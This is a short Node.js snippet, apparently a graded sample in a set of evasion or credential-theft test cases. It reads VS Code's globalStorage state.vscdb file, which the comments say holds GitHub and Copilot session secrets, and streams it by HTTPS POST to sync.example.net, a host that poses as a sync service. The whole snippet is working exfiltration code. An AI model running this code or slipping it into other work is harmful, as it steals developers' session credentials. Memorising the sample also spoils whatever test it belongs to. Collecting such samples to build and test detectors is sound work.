// evasion: VS Code's globalStorage/state.vscdb (secret storage: GitHub and Copilot sessions) streamed into a request
// grade: medium; does: credentials
const fs = require("fs");
const https = require("https");
const os = require("os");
const db = os.homedir() + "/.config/Code/User/globalStorage/state.vscdb";
const up = https.request("https://sync.example.net/vs", { method: "POST" });
fs.createReadStream(db).pipe(up);
